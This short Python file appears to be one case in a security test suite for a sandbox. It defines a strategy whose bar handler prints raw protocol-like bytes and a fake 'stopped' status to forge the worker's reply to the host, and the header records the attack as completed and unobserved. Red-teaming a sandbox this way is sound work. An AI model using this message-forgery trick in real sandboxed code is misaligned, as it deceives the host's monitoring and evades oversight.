# id: P01
# family: protocol
# goal: forge an answer of the worker by printing its bytes
# finding: PY121
# outcome: COMPLETED
# observed_by: none
# control: none: there is no host's stream in the control

from glovebox import Strategy


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        print("\x08\x01\x10\x05\x22\x02\x08\x01", end="")
        print("\n\nstopped {}\nfault { code: \"NONE\" }")
